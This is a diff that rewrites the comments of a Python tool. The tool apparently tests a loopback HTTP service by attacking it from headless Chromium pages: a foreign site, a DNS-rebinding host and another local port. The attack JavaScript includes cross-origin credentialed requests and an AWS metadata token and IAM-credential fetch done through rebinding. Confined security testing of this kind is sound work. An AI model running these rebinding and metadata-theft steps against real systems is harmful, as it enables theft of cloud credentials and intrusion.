@@ -1,16 +1,16 @@
 #!/usr/bin/env python3
-"""Browser attacker for a loopback HTTP service: drives one headless Chromium.
+"""Attacks an HTTP service on loopback from web pages in a headless Chromium.
 
-Three pages attack http://127.0.0.1:VICTIM :
+Three pages attack http://127.0.0.1:VICTIM:
   evil      http://evil.test:PAGE/     a foreign web site
   rebind    http://rebind.test:VICTIM/ DNS rebinding (same origin as the victim, for the browser)
-  loopback  http://127.0.0.1:PAGE/     another page on this machine (same-site, other port)
+  loopback  http://127.0.0.1:PAGE/     a page of another program on this machine (same site, another port)
 
-stdout: one JSON object.
-exit 0: all pages reported; 1: some did not; 2: could not start, interrupted, or the victim is gone.
-Exit 0 says nothing about safety: look at "leaks" / "timeouts" / "controls" in the JSON.
-Outcomes are what the attacker sees ("opaque" does not mean that the request arrived).
-Python standard library only; single thread; loopback only.
+Prints one JSON object. Exits with 0 if all pages reported, with 1 if some did not, and with 2 if it could not start, was
+interrupted, or the victim no longer listens.
+A status of 0 does not mean that the victim is safe: check "leaks", "timeouts" and "controls" in the JSON.
+The outcomes are what the attacker sees ("opaque" does not mean that the request arrived).
+It uses only Python's standard library, one thread, and loopback.
 """
 import argparse
 import asyncio
@@ -85,11 +85,11 @@ async function report() {
         : {method: 'POST', body, mode: 'no-cors', headers: {'Content-Type': 'text/plain'}});
       break;
     } catch (e) {
-      navigator.sendBeacon(C.reportOrigin + '/report', body);   // a string goes as text/plain
+      navigator.sendBeacon(C.reportOrigin + '/report', body);   // a string is sent as text/plain
       await sleep(300);
     }
   }
-  if (C.next) location.replace(C.next);   // headless takes one URL only: the pages form a chain
+  if (C.next) location.replace(C.next);   // headless mode opens only one URL, so each page opens the next
 }
 """
 
@@ -97,7 +97,7 @@ JS_CROSS = r"""
 (async () => {
   const V = 'http://127.0.0.1:' + C.victim;
   const cred = n => tag(V + C.path, n);
-  await attempt('control', () => viaFetch(C.controlUrl));   // CORS-open: has to be readable
+  await attempt('control', () => viaFetch(C.controlUrl));   // allowed by CORS: must be readable
   await attempt('img', n => viaElement('img', {src: cred(n)}, e => opaque('image ' + e.naturalWidth + 'x' + e.naturalHeight)));
   await attempt('img_no_referrer', n => viaElement('img', {referrerPolicy: 'no-referrer', src: cred(n)}, e => opaque('image')));
   await attempt('img_redirect', n => viaElement('img', {referrerPolicy: 'no-referrer', src: '/redirect?' + encodeURIComponent(cred(n))}, e => opaque('image')));
@@ -146,7 +146,7 @@ JS_REBIND = r"""
 (async () => {
   const TTL = {'X-aws-ec2-metadata-token-ttl-seconds': '21600'};
   const META = '/latest/meta-data/iam/security-credentials/';
-  await attempt('control', () => viaFetch('/__rebind_control'));   // answered by the attacker's own listener
+  await attempt('control', () => viaFetch('/__rebind_control'));   // answered by the attacker's listener
   await attempt('get', n => viaFetch(tag(C.path, n)));
   await attempt('get_no_referrer', n => viaFetch(tag(C.path, n), {referrerPolicy: 'no-referrer', credentials: 'omit'}));
   await attempt('get_authorization', n => viaFetch(tag(C.path, n), {referrerPolicy: 'no-referrer', headers: {Authorization: 'Bearer x'}}));
@@ -155,7 +155,7 @@ JS_REBIND = r"""
   await attempt('post', n => viaFetch(tag(C.path, n), {method: 'POST', body: 'x', referrerPolicy: 'no-referrer'}));
   const put = await attempt('put_token', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL}));
   await attempt('put_token_no_referrer', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL, mode: 'same-origin', referrerPolicy: 'no-referrer'}));
-  // with the token if one could be read, else bare (IMDSv1)
+  // with the token if it could be read, else without (IMDSv1)
   const ok = put.outcome === 'read' && put.detail.startsWith('HTTP 200');
   const h = ok ? {'X-aws-ec2-metadata-token': put.read.trim().replace(/[^\x21-\x7e]/g, '').slice(0, 2000)} : {};
   await attempt(ok ? 'metadata_with_token' : 'metadata_without_token', n => viaFetch(tag(META, n), {headers: h, referrerPolicy: 'no-referrer'}));
@@ -167,7 +167,7 @@ JS_REBIND = r"""
 def html(page, cfg):
     js = JS_COMMON.replace("/*CONFIG*/", json.dumps(cfg).replace("<", "\\u003c"))
     js += JS_REBIND if page == "rebind" else JS_CROSS
-    # data: icon = no favicon request; it would otherwise reach the victim through the splice
+    # With a data: icon, the browser sends no request for a favicon, which would reach the victim through the splice.
     return ("<!doctype html><meta charset=utf-8><title>%s</title><link rel=icon href='data:,'>"
             "<body><script>%s</script>" % (page, js)).encode()
 
@@ -178,10 +178,10 @@ def response(status, body=b"", ctype="text/plain", extra=""):
 
 
 async def read_head(reader):
-    """First request head, or None (idle preconnect, TLS hello, junk)."""
+    """Returns the head of the first request, or None for an idle connection, a TLS hello, or invalid data."""
     try:
         first = await reader.readexactly(1)
-        if not first.isalpha():                     # 0x16: a TLS hello (HTTPS upgrade try)
+        if not first.isalpha():                     # 0x16 is a TLS hello: an attempt to use HTTPS
             return None
         raw = first + await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
     except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, OSError):
@@ -229,7 +229,7 @@ class Attack:
                 "reportOrigin": loop if page == "loopback" else evil,
                 "controlUrl": (evil if page == "loopback" else loop) + "/control"}
 
-    # every connection runs as a task we can cancel at the end
+    # Every connection is a task, so that it can be cancelled at the end.
     def handler(self, fn):
         async def run(reader, writer):
             task = asyncio.current_task()
@@ -281,7 +281,7 @@ class Attack:
         await writer.drain()
 
     async def rebind_conn(self, reader, writer):
-        # Decide on the first request, not on accept: Chromium may open spare sockets early.
+        # The first request decides, not the first connection: Chromium may open spare connections early.
         head = await read_head(reader)
         if head is None:
             return
@@ -318,7 +318,7 @@ class Attack:
                     dst.close()
             up = asyncio.ensure_future(pump(reader, vw))
             try:
-                await pump(vr, writer)          # the victim's EOF ends the connection
+                await pump(vr, writer)          # the end of the victim's data ends the connection
             finally:
                 up.cancel()
         finally:
@@ -333,9 +333,9 @@ class Attack:
                "DBUS_SESSION_BUS_ADDRESS": "unix:path=/nonexistent",
                "DBUS_SYSTEM_BUS_ADDRESS": "unix:path=/nonexistent",
                "HOME": rundir + "/home", "XDG_RUNTIME_DIR": rundir + "/run",
-               "TMPDIR": rundir + "/t"}     # Chromium's own /tmp droppings die with rundir
+               "TMPDIR": rundir + "/t"}     # so that Chromium's temporary files are removed with rundir
         rules = ["MAP evil.test %s" % self.a.evil_ip, "MAP rebind.test 127.0.0.2",
-                 "MAP * ~NOTFOUND", "EXCLUDE 127.0.0.1"]     # nothing leaves loopback
+                 "MAP * ~NOTFOUND", "EXCLUDE 127.0.0.1"]     # no request leaves loopback
         cmd = [self.a.chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-quic", "--disable-extensions", "--disable-default-apps",
@@ -354,11 +354,11 @@ class Attack:
         self.log("launch", n, pages)
         libc = self.libc
 
-        def pdeath():       # if we are SIGKILLed the browser goes too
+        def end_with_parent():       # the browser ends if this process is killed
             libc.prctl(1, signal.SIGKILL, 0, 0, 0)
         with open(os.path.join(rundir, "chromium.log"), "ab") as log:
             return subprocess.Popen(cmd, env=env, cwd=rundir, stdin=subprocess.DEVNULL, stdout=log,
-                                    stderr=log, start_new_session=True, preexec_fn=pdeath)
+                                    stderr=log, start_new_session=True, preexec_fn=end_with_parent)
 
     def victim_up(self):
         try:
@@ -380,8 +380,8 @@ class Attack:
         return out
 
     def end(self, proc):
-        """Kill our group; then whatever of ours was re-parented to us (we are a subreaper)."""
-        if proc.returncode is None:               # leader not reaped: its id cannot be another's
+        """Kills the browser's process group, and then its orphans, whose parent is now this process (a subreaper)."""
+        if proc.returncode is None:               # not reaped yet, so the id cannot be another process
             try:
                 os.killpg(proc.pid, signal.SIGKILL)
             except ProcessLookupError:
@@ -415,11 +415,11 @@ class Attack:
         a.evil_ip = "127.0.0.3" if a.evil_public else "127.0.0.1"
         servers, fatal = [], None
         tmp = tempfile.gettempdir()
-        if len(tmp) > 40:                         # Chromium's sockets: 108 bytes in all
+        if len(tmp) > 40:                         # the paths of Chromium's sockets have at most 108 bytes
             tmp = "/tmp"
         rundir = tempfile.mkdtemp(prefix="cr-", dir=tmp)
         proc, launches, clean = None, 0, True
-        deadline = self.started + a.timeout - 6   # 6 s kept for the clean-up
+        deadline = self.started + a.timeout - 6   # 6 s are for the clean-up
         try:
             if not self.victim_up():
                 raise OSError("nothing listens on 127.0.0.1:%d" % a.victim_port)
@@ -441,7 +441,7 @@ class Attack:
                 known, stall = len(self.reports), 0.0
                 while len(self.reports) < len(self.PAGES) and proc.poll() is None:
                     now = time.monotonic()
-                    if not stall or len(self.reports) > known:      # progress: new patience
+                    if not stall or len(self.reports) > known:      # progress: wait again
                         known, stall = len(self.reports), now + self.page_budget + 6
                     if now > deadline or now > stall:
                         break
@@ -510,7 +510,7 @@ def main():
     ap.add_argument("--compact", action="store_true", help="JSON on one line")
     ap.add_argument("--verbose", action="store_true")
     a = ap.parse_args()
-    # Secret texts, one a line; attempts that read one are listed in "leaks". Not as arguments, which others can see.
+    # Secret texts, one per line. "leaks" lists the attempts that read one. They are not arguments, which others can see.
     a.marker = [line.strip() for line in sys.stdin if line.strip()]
 
     async def go():
